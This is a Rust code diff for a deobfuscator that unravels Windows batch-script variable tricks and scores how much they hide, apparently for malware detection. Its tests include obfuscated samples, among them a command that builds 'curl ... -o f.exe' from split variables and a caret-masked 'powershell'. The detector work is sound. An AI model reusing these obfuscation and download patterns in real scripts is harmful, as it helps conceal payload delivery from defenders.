@@ -9,11 +9,19 @@ use crate::budget::Budget;
 use crate::limits::MAX_LAYER;
 use crate::peel::{Rewrite, Technique};
 use crate::script::{ENOUGH, Hosts, not_shown};
-use lines::{Loop, commands, is_delayed_command, is_run_delayed, name_of, own_names};
+use lines::{
+    Loop, MAX_NAME, Names, behind_set, commands, is_delayed_command, is_open, is_run_delayed, name_of, names_set,
+    own_names,
+};
 use values::{KNOWN, MAX_VALUE, cut, replaced};
+
+/// Commands out of variables that are looked at.
+const MAX_COMMANDS: usize = 16;
 
 #[derive(Default)]
 struct Run {
+    /// The file in lower case.
+    lower: String,
     is_delayed: bool,
     /// Blocks in parentheses that are open.
     depth: i32,
@@ -22,13 +30,14 @@ struct Run {
     named: HashSet<String>,
     steps: BTreeMap<Technique, usize>,
     weight: usize,
-    /// A command in a variable counted already.
-    is_command_known: bool,
+    /// Commands out of variables so far.
+    commands: usize,
 }
 
 pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
     let (telling, mut hosts) = (not_shown(text), Hosts::default());
-    let mut run = Run { is_delayed: is_run_delayed(text), ..Run::default() };
+    let lower = text.to_ascii_lowercase();
+    let mut run = Run { lower, is_delayed: is_run_delayed(text), ..Run::default() };
     let mut done = String::with_capacity(text.len());
     for line in text.split_inclusive('\n') {
         if !budget.spend(line.len() / 4 + 1) || done.len() > MAX_LAYER {
@@ -37,7 +46,7 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
         let plain = run.line(line, budget);
         match Loop::of(&plain) {
             Some(each) => run.repeat(&each, budget),
-            None => run.assign(&plain),
+            None => run.assign(&plain, budget),
         }
         run.delay(&plain);
         let is_new = run.weight < ENOUGH && plain != line && {
@@ -59,19 +68,24 @@ impl Run {
     /// A line as it is run.
     fn line(&mut self, line: &str, budget: &mut Budget) -> String {
         let called = self.called(line, budget);
-        let expanded = called.unwrap_or_else(|| self.expand(line, '%', &[], budget));
+        let expanded = called.unwrap_or_else(|| self.expand(line, '%', &Names::default(), budget));
         let plain = self.without_carets(&expanded);
         if !self.is_delayed {
             return plain;
         }
         let own = own_names(&plain);
         let delayed = self.expand(&plain, '!', &own, budget);
-        // Who keeps a whole command in a variable, and puts it together before, hides it.
-        if is_delayed_command(&plain) && delayed != plain && !self.is_command_known {
-            self.is_command_known = true;
-            self.weight += 150;
+        if is_delayed_command(&plain) && delayed != plain && self.commands < MAX_COMMANDS {
+            self.commands += 1;
+            self.weight += if self.is_program_shown(&delayed, budget) { 0 } else { 150 };
         }
         delayed
+    }
+
+    /// Whether the program of a command stands anywhere in the file. Who puts its name together hides it.
+    fn is_program_shown(&self, command: &str, budget: &mut Budget) -> bool {
+        let program = command.split_ascii_whitespace().next().unwrap_or_default().to_ascii_lowercase();
+        !budget.spend(self.lower.len() / 16 + 1) || self.lower.contains(&program)
     }
 
     /// `call` reads its line twice: `%%name%%` is a variable the second time.
@@ -81,7 +95,7 @@ impl Run {
         let program =
             rest.trim_start().split(char::is_whitespace).next().filter(|program| program.starts_with("%%"))?;
         let plain = rest.replace("%%", "%");
-        let expanded = self.expand(&plain, '%', &[], budget);
+        let expanded = self.expand(&plain, '%', &Names::default(), budget);
         if expanded == plain {
             return None;
         }
@@ -93,23 +107,34 @@ impl Run {
     /// `for %%a in (2,1,0) do set name=...`: the value that the variable has behind it.
     fn repeat(&mut self, each: &Loop<'_>, budget: &mut Budget) {
         if self.depth > 0 {
-            self.lose(each.name);
+            self.lose(&each.name.replace(&each.counter, "%"), budget);
             return;
         }
         // What was never set is empty.
-        if self.is_delayed && !self.named.contains(&each.name.to_lowercase()) {
-            self.set(&format!("{}=", each.name), false);
+        if self.is_delayed && !each.name.contains(&each.counter) && !self.named.contains(&each.name.to_lowercase()) {
+            self.set(&format!("{}=", each.name), false, budget);
         }
         for item in &each.items {
-            let one = each.value.replace(&each.counter, item);
-            let made = if self.is_delayed { self.expand(&one, '!', &[], budget) } else { one };
-            self.set(&format!("{}={made}", each.name), false);
+            let made = each.with(item).filter(|(name, value)| budget.spend((name.len() + value.len()) / 8 + 1));
+            let Some((name, value)) = made else {
+                self.lose(&each.name.replace(&each.counter, "%"), budget);
+                continue;
+            };
+            let value = if self.is_delayed { self.expand(&value, '!', &Names::default(), budget) } else { value };
+            self.set(&format!("{name}={value}"), false, budget);
         }
     }
 
-    /// Its value is not known from here on.
-    fn lose(&mut self, name: &str) {
+    /// Its value is not known from here on; if its name is not known to its end, none that it may be.
+    fn lose(&mut self, name: &str, budget: &mut Budget) {
         let name = name.to_lowercase();
+        if is_open(&name) {
+            let (first, last) = (name.split(['%', '!']).next(), name.rsplit(['%', '!']).next());
+            let (first, last) = (first.unwrap_or_default(), last.unwrap_or_default());
+            // Without the means to look at all of them, none is known.
+            let can_look = budget.spend(self.variables.len() / 8 + 1);
+            self.variables.retain(|known, _| can_look && !(known.starts_with(first) && known.ends_with(last)));
+        }
         self.variables.remove(&name);
         self.named.insert(name);
     }
@@ -134,14 +159,14 @@ impl Run {
     }
 
     /// With the variables that are known put in, which stand between two of `mark`, but for those that change.
-    fn expand(&mut self, line: &str, mark: char, changing: &[String], budget: &mut Budget) -> String {
+    fn expand(&mut self, line: &str, mark: char, changing: &Names, budget: &mut Budget) -> String {
         let mut done = String::with_capacity(line.len());
         let mut rest = line;
         while let Some(at) = rest.find(mark) {
             done.push_str(&rest[..at]);
             rest = &rest[at..];
             let inner = &rest[1..];
-            let Some(end) = inner.find(mark).filter(|&end| end > 0 && end < 256) else {
+            let Some(end) = inner.find(mark).filter(|&end| end > 0 && end < MAX_NAME) else {
                 // `%%` and arguments.
                 let length = 1 + usize::from(inner.starts_with(mark));
                 done.push_str(&rest[..length]);
@@ -150,7 +175,7 @@ impl Run {
             };
             let reference = &inner[..end];
             let name = name_of(reference);
-            match self.value(reference).filter(|_| !changing.contains(&name)) {
+            match self.value(reference).filter(|_| !changing.may_be(&name)) {
                 Some((value, technique))
                     if budget.spend(value.len() / 8 + 1) && done.len() + value.len() <= MAX_LAYER =>
                 {
@@ -170,13 +195,25 @@ impl Run {
 
     /// How much it hides. A letter from a variable is hidden; a name that is used twice is not.
     fn hiding(&self, name: &str, value: &str, technique: Technique) -> usize {
-        // A drive or a folder is what these are cut for; letters of them, to write another word.
         let is_word = value.bytes().all(|byte| byte.is_ascii_alphabetic());
+        let length = value.chars().count();
         match technique {
-            Technique::Substring if is_word && !self.variables.contains_key(name) => 100,
-            Technique::Substring => 50,
+            // A drive or a folder is what these are cut for; a few letters of them, to write another word.
+            Technique::Substring if !self.variables.contains_key(name) => match (is_word, length) {
+                (true, ..=4) => 100,
+                (false, ..=2) => 25,
+                _ => 0,
+            },
+            // A part of a version or a date is longer, or has other signs.
+            Technique::Substring => {
+                if is_word && length <= 3 || length == 1 {
+                    50
+                } else {
+                    20
+                }
+            }
             Technique::Replace => 40,
-            _ if value.chars().count() <= 2 => 30,
+            _ if length <= 2 => 30,
             _ => 0,
         }
     }
@@ -235,19 +272,19 @@ impl Run {
     }
 
     /// `set name=value`, also behind `&&`. What is only set under a condition, or in a block, is not known.
-    fn assign(&mut self, line: &str) {
+    fn assign(&mut self, line: &str, budget: &mut Budget) {
         for command in commands(line.trim_end_matches(['\r', '\n'])) {
             let begun = command.trim_start_matches([' ', '\t', '@', '(']);
             let in_parentheses = command[..command.len() - begun.len()].contains('(');
             self.depth += i32::from(in_parentheses && !command.trim_end().ends_with(')'));
-            match begun.get(..4).filter(|word| word.eq_ignore_ascii_case("set ")) {
-                Some(_) if self.depth == 0 => self.set(&begun[4..], in_parentheses),
-                Some(_) => self.forget(&begun[4..]),
-                None => {
-                    for (at, _) in begun.to_ascii_lowercase().match_indices("set ") {
-                        self.forget(begun.get(at + 4..).unwrap_or_default());
+            match behind_set(begun) {
+                Some(rest) if self.depth == 0 => self.set(rest, in_parentheses, budget),
+                is_set => {
+                    for name in names_set(begun) {
+                        self.lose(&name, budget);
                     }
-                    self.depth += i32::from(!in_parentheses && begun.trim_end().ends_with('('));
+                    let opens = is_set.is_none() && !in_parentheses && begun.trim_end().ends_with('(');
+                    self.depth += i32::from(opens);
                 }
             }
             if !in_parentheses && begun.starts_with(')') || self.depth > 0 && begun.trim_end().ends_with(')') {
@@ -256,18 +293,12 @@ impl Run {
         }
     }
 
-    fn forget(&mut self, rest: &str) {
-        if let Some((name, _)) = rest.split_once('=') {
-            self.lose(name.trim_start_matches([' ', '"']).rsplit('"').next().unwrap_or_default());
-        }
-    }
-
-    fn set(&mut self, rest: &str, in_parentheses: bool) {
+    fn set(&mut self, rest: &str, in_parentheses: bool, budget: &mut Budget) {
         let rest = rest.trim_start();
         if rest.starts_with('/') {
             // Computed or asked for.
-            if let Some((name, _)) = rest.split_once('=') {
-                self.lose(name.rsplit([' ', '"']).next().unwrap_or_default());
+            for name in names_set(&format!("set {rest}")) {
+                self.lose(&name, budget);
             }
             return;
         }
@@ -278,8 +309,8 @@ impl Run {
         };
         let Some((name, value)) = rest.split_once('=') else { return };
         // What is not known in it is not known later; nor what a caret protects.
-        if value.len() > MAX_VALUE || value.contains(['%', '!', '^']) {
-            self.lose(name);
+        if is_open(name) || value.len() > MAX_VALUE || value.contains(['%', '!', '^']) {
+            self.lose(name, budget);
         } else {
             self.named.insert(name.to_lowercase());
             self.variables.insert(name.to_lowercase(), value.to_owned());
@@ -348,11 +379,14 @@ mod tests {
 
     #[test]
     fn a_delayed_command_is_put_together() {
-        let set = "setlocal EnableDelayedExpansion\r\nset k=curl\r\nset z=!k! http://one.example/f -o f.exe\r\n";
-        let done = undone(&format!("{set}!z!\r\nset s=abcdef\r\necho !s:~2,2!\r\n"));
+        let set = "setlocal EnableDelayedExpansion\r\nset k=cu\r\nset z=!k!rl http://one.example/f -o f.exe\r\n";
+        let parts = "set s=abcdef\r\necho !s:~2,2!\r\n";
+        let done = undone(&format!("{set}!z!\r\n{parts}"));
         assert!(done.ends_with("\r\ncurl http://one.example/f -o f.exe\r\nset s=abcdef\r\necho cd\r\n"), "{done}");
-        // A command that an honest script keeps in a variable.
-        assert_eq!(undone(&format!("{set}!z!\r\n")), "");
+        // A command that an honest script keeps in a variable, and parts of what it knows.
+        let honest = set.replace("set k=cu\r\n", "set k=curl\r\nset v=10.0.19\r\n").replace("!rl", "!");
+        assert_eq!(undone(&format!("{honest}echo !v:~0,2! !v:~3,1! %OS:~0,7%\r\n!z!\r\n")), "");
+        assert_eq!(undone("set s=\\\\x\\%windir:~3%\r\necho %SystemRoot:~3% %windir:~3% %ProgramFiles:~3,7%\r\n"), "");
     }
 
     #[test]
@@ -369,6 +403,39 @@ mod tests {
         assert!(undone(text).ends_with("\r\ncurl\r\n"), "{}", undone(text));
         assert!(undone(&text.replace("do set", "do @set")).is_empty());
         assert!(undone(&format!("setlocal DisableDelayedExpansion\r\n{text}")).is_empty());
+    }
+
+    #[test]
+    fn what_is_computed_or_set_in_a_loop_is_not_known() {
+        let letters =
+            "setlocal EnableDelayedExpansion\r\np^o^w^e^r^s^h^e^l^l\r\ns^e^t k=a\r\nset n=1\r\nset m=1\r\nset v1=o\r\n";
+        let last = |text: &str| undone(&format!("{letters}{text}\r\n")).lines().last().map(str::to_owned);
+        for (text, shown) in [
+            ("set /a n+=1\r\necho %n% %m%", "echo %n% 1"),
+            ("set /a \"n=2, m-=1\"\r\necho %n% %m%", "echo %n% %m%"),
+            ("set /a v%x%=2\r\necho %v1% %m%", "echo %v1% 1"),
+            ("set/a n*=2&echo !n! !m!", "set/a n*=2&echo !n! 1"),
+            ("set \"a b=1\"\r\nset \"a b=2\"&echo !a b! !m!", "set \"a b=2\"&echo !a b! 1"),
+            ("set v!x!=2&echo !n!", "set v!x!=2&echo !n!"),
+            ("for %%a in (1 2) do set v%%a=new\r\necho %v1%", "echo new"),
+            ("if x==%1 (\r\nfor %%a in (1 2) do set v%%a=new\r\n)\r\necho %v1% %m%", "echo %v1% 1"),
+        ] {
+            assert_eq!(last(text).as_deref(), Some(shown), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_long_has_an_end() {
+        let set = "setlocal EnableDelayedExpansion\r\n";
+        for text in [
+            format!("set x=1\r\necho {}\r\n", "a:~".repeat(200_000)),
+            format!("{set}{}&echo !x!\r\n", "set ".repeat(300_000)),
+            format!("{set}{}&echo !x!\r\n", "set/a x=".repeat(200_000)),
+            format!("set x=1\r\nfor %%a in ({}) do set x={}\r\n", "1 ".repeat(4_000), "%%a".repeat(200_000)),
+            format!("set x=1\r\nfor %%a in ({}) do set x=%%a%%a\r\n", "1".repeat(1_000_000)),
+        ] {
+            assert!(undo(&text, &mut Budget::new(text.len())).text.is_none_or(|done| done.len() <= MAX_LAYER));
+        }
     }
 
     #[test]
